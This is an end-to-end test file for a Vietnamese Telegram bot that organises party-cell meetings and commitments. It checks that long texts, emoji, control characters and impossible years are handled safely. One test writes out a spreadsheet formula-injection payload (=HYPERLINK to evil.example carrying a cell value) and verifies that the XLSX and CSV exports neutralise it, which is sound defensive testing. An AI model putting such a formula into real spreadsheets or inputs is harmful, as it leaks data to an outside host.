"""Hostile text end to end: what members may type (very long texts, emoji, markup characters,
invisible control characters, far-off years) against the fake server, which checks HTML
entities and UTF-16 lengths the way Telegram does."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Awaitable, Callable

from fake_telegram import BotMessage
from tests.e2e.conftest import Harness
from tests.e2e.test_commitments import IDEOLOGY

SECRETARY, BICH = 1001, 1002
# A lead-in of exactly 3000 characters, with markup characters that must be escaped.
LEAD_IN = ("Nêu gương <tự giác> & trách nhiệm; " * 100)[:2999] + "."
TOPIC = ("Chuyên đề về trách nhiệm nêu gương của đảng viên & <cấp ủy> " * 10)[:499] + "!"


async def _replies(
    org: Harness,
    chat: int,
    action: Callable[[], Awaitable[object] | object],
    *,
    wait_for_buttons: bool = False,
) -> list[BotMessage]:
    """Every message the bot sends in ``chat`` because of ``action``; fails when Telegram
    (the fake server) refused any of the bot's requests in the chat meanwhile. With
    ``wait_for_buttons``, the answer is complete once a message with buttons came."""
    await org.server.wait_idle()
    org.server.skip_pending(chat)
    before = len(org.server.events(chat))
    done = len(org.server.requests)
    result = action()
    if isinstance(result, Awaitable):
        await result
    last = await org.server.next_message(chat)  # at least one
    # Parts of one answer are paced: wait for the part carrying the buttons (the last one)
    # when the answer has buttons, rather than for a silence that a loaded machine stretches.
    while wait_for_buttons and not last.buttons:
        last = await org.server.next_message(chat)
    await org.server.wait_idle(quiet=0.5)
    refused = [
        f"{r.method}: {r.response}"
        for r in org.server.requests[done:]
        if r.chat_id == chat and r.status not in (None, 200)
    ]
    assert not refused, refused
    org.server.skip_pending(chat)
    return [m for m in org.server.events(chat)[before:] if not m.edited]


def _shown(messages: list[BotMessage]) -> str:
    return "".join(m.plain_text or "" for m in messages)


async def test_a_long_lead_in_and_topic_reach_everyone_whole(org: Harness) -> None:
    ask = await org.say(SECRETARY, "/session new")
    await org.press(SECRETARY, ask, "Sinh hoạt chuyên đề")
    when_q = await org.say(SECRETARY, TOPIC)
    assert "Thời gian bắt đầu" in when_q.text, when_q.text
    echo = await org.say(SECRETARY, "18/3 19:30")
    await org.press(SECRETARY, echo, "Xác nhận")
    assert "trình bày" in (await org.say(SECRETARY, "Nhà văn hóa khu vực 1")).text
    assert "bài đề dẫn" in (await org.say(SECRETARY, "Trần Thị Bích")).text.lower()

    # The summary: in as many messages as it needs, the buttons on the last.
    summary = await _replies(org, SECRETARY, lambda: org.server.send_text(SECRETARY, LEAD_IN))
    assert summary[-1].buttons
    assert "".join(TOPIC.split()) in "".join(_shown(summary).split())
    assert "".join(LEAD_IN.split()) in "".join(_shown(summary).split())

    saved = await _replies(
        org,
        BICH,
        lambda: org.server.press_button(SECRETARY, summary[-1], button_text="Xác nhận và gửi"),
    )
    # The invitation, lead-in included, in parts; the answer buttons on the last.
    assert saved[-1].buttons and "Tôi xin vắng" in [text for text, _ in saved[-1].buttons]
    assert "".join(LEAD_IN.split()) in "".join(_shown(saved).split())
    session_id = int(re.search(r"số (\d+)", saved[0].plain_text or "").group(1))

    upcoming = await _replies(
        org, BICH, lambda: org.server.send_text(BICH, "/sessions"), wait_for_buttons=True
    )
    assert "".join(LEAD_IN.split()) in "".join(_shown(upcoming).split())
    assert "Tôi xin vắng" in [text for text, _ in upcoming[-1].buttons]

    shown = await _replies(
        org,
        SECRETARY,
        lambda: org.server.send_text(SECRETARY, f"/session show {session_id}"),
        wait_for_buttons=True,
    )
    assert "".join(TOPIC.split()) in "".join(_shown(shown).split())
    assert "Chưa trả lời: 4" in _shown(shown)
    # Refresh redraws the last part, the one carrying the button.
    refreshed = org.server.press_button(SECRETARY, shown[-1], button_text="Cập nhật")
    await org.server.wait_callback_answer(refreshed)
    await org.server.wait_idle()
    refused = [r.response for r in org.server.requests if r.status not in (None, 200)]
    assert all("not modified" in str(answer) for answer in refused), refused


async def test_emoji_count_as_telegram_counts_them(org: Harness) -> None:
    h = org
    created = await h.cli("campaign", "create", "--year", "2026", "--topic", "Nêu gương 2026")
    assert created[0] == 0, created
    menu = await h.say(BICH, "/commit")
    prompt = await h.press(BICH, menu, IDEOLOGY)
    assert "từ 10 đến 1000 ký tự" in prompt.text
    # 1,000 emoji are 2,000 UTF-16 code units: over the limit, said plainly.
    refused = await _replies(h, BICH, lambda: h.server.send_text(BICH, "😀" * 1000))
    assert "quá dài (2000 ký tự)" in _shown(refused)
    # 500 emoji and some words fit: saved, echoed, shown in the preview.
    action = "Giữ gìn nếp sống văn minh " + "🌟" * 480
    asked = await _replies(h, BICH, lambda: h.server.send_text(BICH, action))
    assert "Đã lưu" in _shown(asked)
    skipped = await _replies(
        h, BICH, lambda: h.server.press_button(BICH, asked[-1], button_text="Bỏ qua")
    )
    preview = await _replies(
        h, BICH, lambda: h.server.press_button(BICH, skipped[-1], button_text="Xem trước")
    )
    assert action in _shown(preview)


async def _new_campaign(h: Harness) -> None:
    created = await h.cli("campaign", "create", "--year", "2026", "--topic", "Nêu gương 2026")
    assert created[0] == 0, created


async def test_control_characters_are_refused_at_the_door(org: Harness) -> None:
    await _new_campaign(org)
    menu = await org.say(BICH, "/commit")
    await org.press(BICH, menu, IDEOLOGY)
    refused = await org.say(BICH, "Đọc sách\x07 mỗi ngày\x01 một giờ")
    assert "ký tự ẩn" in refused.text and "gõ lại" in refused.text
    assert not refused.buttons  # nothing saved, still at the same step
    # Newlines and tabs are ordinary typing; the step goes on.
    saved = await org.say(BICH, "Đọc sách mỗi ngày\n\tmột giờ")
    assert "Đã lưu" in saved.text
    # Commands too, and people not registered yet (their name would be stored).
    assert "ký tự ẩn" in (await org.say(BICH, "/commit\x1b")).text
    org.server.add_user(4242, "Lạ", language_code="vi")
    assert "ký tự ẩn" in (await org.say(4242, "Nguyễn\x00 Văn Lạ")).text


async def test_typed_formulas_reach_the_exports_inert(org: Harness) -> None:
    from openpyxl import load_workbook

    await _new_campaign(org)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
    menu = await org.say(BICH, "/commit")
    prompt = await org.press(BICH, menu, IDEOLOGY)
    assert "ký tự" in prompt.text
    asked = await org.say(BICH, formula)
    menu = await org.press(BICH, asked, "Bỏ qua")
    confirm = await org.press(BICH, menu, "Gửi")
    await org.press(BICH, confirm, "Xác nhận")
    assert "đã nộp" in (await org.server.next_message(SECRETARY)).text  # the alert
    progress = await org.say(SECRETARY, "/commitments")
    org.server.press_button(SECRETARY, progress, button_text="XLSX")
    sent = await org.next_new(SECRETARY)
    assert sent.file_name == "cam-ket-2026-chi-bo-khu-vuc-1.xlsx"
    sheet = load_workbook(io.BytesIO(sent.file_bytes)).active
    cells = [row[6] for row in sheet.iter_rows(min_row=2) if row[1].value == "DV002"]
    assert [(c.value, c.data_type) for c in cells] == [(formula, "s")]
    org.server.press_button(SECRETARY, progress, button_text="CSV")
    sent = await org.next_new(SECRETARY)
    assert sent.file_name == "cam-ket-2026-chi-bo-khu-vuc-1.csv"
    rows = list(csv.reader(io.StringIO(sent.file_bytes.decode("utf-8-sig"))))
    assert [r[6] for r in rows if r[1] == "DV002"] == ["'" + formula]


async def test_years_0_and_9999_are_refused_saying_which_years(org: Harness) -> None:
    for period in ("9999", "Q1/0000", "31/12/9999-31/12/9999"):
        refused = await _replies(
            org, SECRETARY, lambda p=period: org.server.send_text(SECRETARY, f"/session report {p}")
        )
        assert "từ 2000 đến 2100" in _shown(refused), period
    ask = await org.say(SECRETARY, "/session new")
    ask_topic = await org.press(SECRETARY, ask, "Sinh hoạt chi bộ thường kỳ")
    assert "chủ đề" in ask_topic.text
    assert "Thời gian bắt đầu" in (await org.say(SECRETARY, "Sinh hoạt chi bộ tháng 12")).text
    refused = await org.say(SECRETARY, "31/12/9999 23:30")
    assert "từ 2000 đến 2100" in refused.text and not refused.buttons
    echo = await org.say(SECRETARY, "31/12/2026 19:30")
    assert "Có đúng không" in echo.text
